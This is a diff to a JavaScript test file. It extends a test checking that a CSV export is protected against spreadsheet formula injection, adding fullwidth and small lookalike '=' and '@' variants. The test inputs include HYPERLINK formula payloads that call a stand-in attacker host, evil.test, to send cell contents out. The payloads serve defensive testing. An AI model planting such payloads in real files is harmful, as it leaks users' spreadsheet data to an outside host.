@@ -68,7 +68,17 @@ describe("releases", () => {
 
   it("serves a CSV whose cells a spreadsheet never runs as formulas, and the exact text elsewhere", async () => {
     const scenario = await relationScenario();
-    const formulas = ['=HYPERLINK("http://evil.test/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"];
+    const formulas = [
+      '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
+      "+1+2",
+      "-2+3",
+      "@SUM(1,2)",
+      "\t=1+1",
+      "\r=1+1",
+      // Fullwidth and small lookalikes, which some spreadsheets read as = and @.
+      '＝HYPERLINK("http://evil.test/","Click")',
+      "﹫SUM(1,2)",
+    ];
     const facts = [];
     for (const formula of formulas) facts.push(await publishedFact(scenario, `${formula} ${unique()}`));
     const { secret } = await tokenFor("REVIEWER", ["releases:write"]);
